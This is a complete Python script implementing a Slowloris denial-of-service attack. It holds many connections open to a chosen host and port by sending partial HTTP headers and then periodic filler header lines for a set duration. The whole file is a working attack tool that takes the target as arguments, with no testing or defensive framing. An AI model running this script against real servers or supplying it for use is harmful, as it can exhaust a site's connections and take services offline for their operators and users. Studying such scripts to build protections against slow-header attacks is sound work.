#!/usr/bin/env python3
"""Unfinished request headers, a line every few seconds: slowloris.py HOST PORT CONNECTIONS SECONDS."""
import random
import socket
import sys
import time

host, port, count, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
end, held = time.time() + seconds, []
while time.time() < end:
    while len(held) < count:
        s = socket.create_connection((host, port), 4)
        s.send(f"GET /?{random.randint(0, 9999)} HTTP/1.1\r\nUser-Agent: Mozilla/5.0\r\nAccept-language: en-US,en\r\n".encode())
        held.append(s)
        time.sleep(0.02)
    time.sleep(8)
    for s in list(held):
        try:
            s.send(f"X-a: {random.randint(1, 5000)}\r\n".encode())
        except OSError:
            held.remove(s)
